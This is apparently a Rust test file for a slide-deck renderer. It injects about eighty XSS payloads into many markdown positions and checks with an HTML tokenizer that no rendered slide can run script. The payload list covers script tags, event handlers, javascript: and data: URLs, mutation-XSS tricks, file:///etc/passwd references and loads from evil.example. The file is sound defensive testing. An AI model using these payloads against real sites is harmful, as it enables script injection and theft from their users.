//! Payloads that run in a careless web page: each in many places of a deck. None of them may reach a slide as anything
//! that could run, load or leave its box. What is left is read with a tokenizer of the HTML standard, not with patterns.

use chairside_deck::{Content, Deck, Folder, fragment, link_allowed, parse, parse_deck};
use html5gum::{Token, Tokenizer};

const BASE: &str = "deck://localhost/";

/// Elements, events, addresses, styles and what browsers change when they read HTML a second time.
const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<script>\n\nalert(1)\n\n</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src=\"data:text/javascript,alert(1)\"></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<img/src='x'/onerror='alert(1)'>",
    "<img src=x:x onerror\u{c}=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<p onclick=alert(1) onmouseover=alert(1) onfocus=alert(1) tabindex=1 autofocus>x</p>",
    "<b onpointerenter=\"alert(1)\" style=\"position:fixed;inset:0\">x</b>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript&colon;alert(1)\">x</a>",
    "<a href=\" \u{1}javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href=\"blob:https://a.example/1\" ping=\"https://evil.example\" target=_top>x</a>",
    "<a href=\"//evil.example/\">x</a>",
    "<a href=\"deck://localhost/0123456789abcdef0123456789abcdef\">x</a>",
    "<a href=\"tauri://localhost/\" download>x</a>",
    "[x](javascript:alert(1))",
    "[x](<java&Tab;script:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd \"title\\\" onclick=alert(1)\")",
    "<javascript:alert(1)>",
    "[x]\n\n[x]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](https://evil.example/pixel.png)",
    "![\" onerror=\"alert(1)](x.png)",
    "![x](file:///etc/passwd)",
    "![x](../../../../etc/passwd)",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x'/>#x\"></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<title><img src=\"</title><img src=x onerror=alert(1)>\">",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img src onerror=alert(1)>\">",
    "<p title=\"`<img src=x onerror=alert(1)>\">x</p>",
    "<!--<img src=\"--><img src=x onerror=alert(1)>\">",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?><img src=x onerror=alert(1)>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=\"https://evil.example/x.swf\">",
    "<applet code=x></applet><frameset onload=alert(1)><frame src=x></frameset>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
    "<form action=\"https://evil.example\"><input name=a onfocus=alert(1) autofocus><button formaction=\"javascript:alert(1)\">x</button></form>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<style>@import 'https://evil.example/x.css'; * { background: url(https://evil.example) }</style>",
    "<p style=\"background:url(javascript:alert(1));width:expression(alert(1))\">x</p>",
    "<link rel=stylesheet href=\"https://evil.example/x.css\"><link rel=import href=x>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src *\">",
    "<base href=\"https://evil.example/\">",
    "<table background=\"javascript:alert(1)\"><td background=\"https://evil.example/x\">x</table>",
    "<div id=root class=\"presenter\" name=__TAURI__ slot=x part=y is=z>x</div>",
    "<slot name=x></slot><portal src=x></portal><custom-element onclick=alert(1)>x</custom-element>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<\0script>alert(1)</script>",
    "<img src=x o\0nerror=alert(1)>",
];

/// Where a payload stands; `X` is replaced by it.
const PLACES: &[&str] = &[
    "X",
    "Some text X and more",
    "# X",
    "- a\n  - X",
    "> X",
    "| a | X |\n|---|---|\n| X | b |",
    "<div class=\"columns\">\n\nX\n\n</div>",
    "<p>X</p>",
    "<b title=\"X\">x</b>",
    "[X](https://a.example)",
    "a[^1]\n\n[^1]: X",
    "<!-- X -->\n\nafter",
    "<!-- _class: X -->\n\n# a",
    "---\nlayout: X\n---\n\n# a",
    "```html\nX\n```",
    "`X`",
    "::left::\n\nX\n\n::right::\n\nX",
    "Note: X",
];

/// Elements that a slide may have; `sanitise.rs` has the same list, and this one is not made from it.
const ELEMENTS: &str = "a abbr b bdi bdo blockquote br caption cite code col colgroup dd del dfn div dl dt em figcaption \
    figure h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q rp rt ruby s samp section small span strong sub sup \
    table tbody td tfoot th thead tr u ul var wbr";

/// Why this HTML could do more than be read; `None` if it cannot.
fn could_run(html: &str) -> Option<String> {
    for token in Tokenizer::new(html) {
        let Ok(token) = token;
        let tag = match token {
            Token::StartTag(tag) => tag,
            Token::Comment(_) | Token::Doctype(_) => return Some("a comment or a doctype".into()),
            _ => continue,
        };
        let name = String::from_utf8_lossy(&tag.name).into_owned();
        if !ELEMENTS.split_whitespace().any(|known| known == name) {
            return Some(format!("<{name}>"));
        }
        for (attribute, value) in &tag.attributes {
            let (attribute, value) = (String::from_utf8_lossy(attribute), String::from_utf8_lossy(value));
            let is_harmless = match &*attribute {
                "href" => link_allowed(&value) || value.starts_with("#fn"),
                "src" => name == "img" && value.strip_prefix(BASE).is_some_and(|id| id.len() == 32),
                "id" => value.starts_with("fn"),
                "class" | "alt" | "title" | "width" | "align" | "start" | "lang" | "dir" | "colspan" | "rowspan" => {
                    true
                }
                _ => false,
            };
            if !is_harmless {
                return Some(format!("<{name} {attribute}=\"{value}\">"));
            }
        }
    }
    None
}

fn slides(deck: &Deck) -> impl Iterator<Item = &str> {
    deck.slides.iter().filter_map(|slide| match &slide.content {
        Content::Html(html) => Some(html.as_str()),
        Content::Generated { .. } => None,
    })
}

#[test]
fn no_payload_runs_anywhere_in_a_deck() {
    let folder =
        Folder { root: std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/decks"), image_base: BASE.into() };
    let (mut decks, mut read, mut failed) = (0, 0, Vec::new());
    for payload in PAYLOADS {
        for place in PLACES {
            let markdown = place.replace('X', payload);
            let plain = parse("a.md", &markdown, 1, &folder);
            let marp = parse_deck("a.md", &format!("---\nmarp: true\n---\n{markdown}"), &folder).ok();
            let whole = parse_deck("a.md", &markdown, &folder).ok();
            let fragment = fragment(&markdown);
            let all = [Some(&plain), marp.as_ref(), whole.as_ref()].into_iter().flatten().flat_map(slides);
            for html in all.chain([fragment.as_str()]) {
                read += 1;
                failed.extend(could_run(html).map(|why| format!("{markdown:?}: {why} in {html}")));
            }
            decks += 1;
        }
    }
    println!(
        "{} payloads in {} places: {decks} decks, {read} slides read, {} could run",
        PAYLOADS.len(),
        PLACES.len(),
        failed.len()
    );
    assert_eq!(failed, [] as [&str; 0]);
    assert!(decks >= 1_500 && read >= 4 * decks);
}

#[test]
fn the_test_itself_finds_what_could_run() {
    for payload in PAYLOADS.iter().filter(|payload| payload.starts_with("<img") || payload.starts_with("<svg")) {
        assert!(could_run(payload).is_some(), "{payload}");
    }
    for html in
        ["<p onclick=x>", "<a href=\"javascript:1\">", "<a href='//x'>", "<p style=x>", "<!--x-->", "<img src=x.png>"]
    {
        assert!(could_run(html).is_some(), "{html}");
    }
    assert_eq!(could_run("<p class=\"box\"><a href=\"https://a.example\">&lt;script&gt;</a></p>"), None);
}
